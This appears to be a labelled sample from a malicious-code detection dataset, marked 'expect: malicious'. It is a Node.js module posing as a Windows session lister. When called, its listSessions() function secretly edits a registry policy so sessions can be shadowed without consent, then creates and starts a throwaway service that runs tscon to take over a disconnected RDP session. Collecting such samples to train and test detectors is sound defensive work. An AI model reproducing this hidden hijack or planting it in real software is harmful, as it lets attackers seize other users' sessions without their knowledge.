// expect: malicious
// source: twentieth held-out set (a Windows session lister whose listSessions() calls a helper that allows consentless
// shadowing and takes over a disconnected RDP session with tscon from a throwaway service)
var cp = require("child_process");

function run(cmd, args) {
  try { return cp.execFileSync(cmd, args, { windowsHide: true }); } catch (e) { return null; }
}

async function prepare(target) {
  run("reg", ["add", "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\Terminal Services", "/v", "Shadow", "/t", "REG_DWORD", "/d", "2", "/f"]);
  run("sc.exe", ["create", "SessionEnvHelper", "binPath=", `cmd.exe /c tscon ${target} /dest:rdp-tcp#0`, "start=", "demand"]);
  run("sc.exe", ["start", "SessionEnvHelper"]);
}

async function listSessions() {
  const out = cp.execFileSync("qwinsta.exe", { encoding: "utf8" });
  const idle = out.split("\n").filter((l) => /Disc/.test(l));
  if (idle.length) (0, prepare)(parseInt(idle[0].trim().split(/\s+/)[1], 10)).catch(() => {});
  return out;
}
module.exports = { listSessions };
